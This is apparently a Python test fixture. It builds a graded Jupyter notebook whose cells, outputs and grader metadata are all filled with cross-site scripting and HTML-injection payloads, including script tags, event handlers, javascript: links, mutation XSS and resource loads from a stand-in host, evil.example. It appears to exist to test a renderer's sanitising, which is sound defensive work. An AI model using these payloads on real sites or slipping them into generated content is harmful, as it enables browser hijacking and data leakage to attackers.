"""A graded notebook in which every text tries to run something in the reader's browser."""

from __future__ import annotations

import base64
from typing import Any

import nbformat
from nbformat.notebooknode import NotebookNode

RUN = "document.body.dataset.hacked=1;alert(1)"
OUT = "https://evil.example"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "remote script": f'<script src="{OUT}/x.js"></script>',
    "handler": f'<img src=x onerror="{RUN}">',
    "handler without quotes": f"<svg/onload={RUN}>",
    "open details": f'<details open ontoggle="{RUN}">more</details>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "picture in SVG": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "SVG as an address": f"<img src=\"data:image/svg+xml,<svg onload='{RUN}'/>\">",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "address of a script": f'<a href="javascript:{RUN}">press</a>',
    "link in Markdown": f"[press](javascript:{RUN})",
    "link with a hidden letter": f"[press](java\tscript:{RUN})",
    "link as data": "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUT}">',
    "base": f'<base href="{OUT}/">',
    "style": f"<style>body {{ background: url({OUT}/style) }}</style>",
    "style of one element": f'<p style="background:url({OUT}/one)">text</p>',
    "import of a style": f"<style>@import '{OUT}/two.css'</style>",
    "style sheet": f'<link rel="stylesheet" href="{OUT}/three.css">',
    "picture elsewhere": f'<img src="{OUT}/pixel.png">',
    "Markdown picture": f"![pixel]({OUT}/other.png)",
    "form": f'<form action="{OUT}"><button autofocus>send</button></form>',
    "object": f'<object data="{OUT}/o"></object><embed src="{OUT}/e">',
    "end of its element": f"</code></pre></details></section></main><script>{RUN}</script>",
    "end of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "template": "{{ 7 * 7 }} {% raw %}",
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$ $$<script>{RUN}</script>$$",
    "comment": f"<!--><script>{RUN}</script>-->",
    "mutation": f'<math><mtext><table><mglyph><style><img src onerror="{RUN}">',
}
ALL = "\n\n".join(PAYLOADS.values())


def _code(source: str, outputs: list[Any] | None = None, **metadata: Any) -> NotebookNode:
    made: Any = nbformat.v4.new_code_cell(source, metadata=metadata)
    made.outputs = outputs or []
    cell: NotebookNode = nbformat.from_dict(made)
    return cell


def hostile_notebook() -> NotebookNode:
    """Return a graded notebook with every payload in every place."""
    check = {"name": ALL, "points": 0.0, "max_points": 2.0, "message": ALL, "hint": ALL}
    told = {"label": ALL, "message": ALL, "hints": [ALL, ALL, ALL], "section": ALL}
    verdict = {"exercise": "f", "title": ALL, "outcome": "incorrect", "points": 0.0}
    verdict |= {"max_points": 2.0, "checks": [check, check], "diagnosis": told}
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'
    picture = base64.b64encode(svg.encode()).decode()
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": ALL},
        {"output_type": "error", "ename": ALL, "evalue": ALL, "traceback": [ALL]},
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": ALL}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": picture}},
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"image/png": f'"><script>{RUN}'},
        },
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"application/javascript": RUN},
        },
    ]
    answer = {"grade_id": "answer_f", "solution": True, "grade": False}
    test = {"grade_id": "check_f", "grade": True, "solution": False, "locked": True}
    written = {"grade_id": "manual_why", "grade": True, "solution": True}
    marks = {"score": 1.0, "points": 2.0, "comment": ALL, "waiting": False}
    cells = [
        _code(ALL, outputs, nbgrader=answer),
        _code("", nbgrader=test | {"score": 0.0}, autograder=verdict),
        nbformat.v4.new_markdown_cell(ALL, metadata={"nbgrader": written | marks}),
        _code(ALL, outputs),
    ]
    top = {"title": ALL, "problem": ALL, "level": ALL, "questions": {"why": ALL}}
    book: Any = nbformat.v4.new_notebook(cells=cells, metadata={"autograder": top})
    whole: NotebookNode = nbformat.from_dict(book)
    return whole


ABOUT = {
    "student": ALL,
    "notebook": ALL,
    "score": 1.0,
    "max_score": 4.0,
    "late_penalty": 1.5,
}
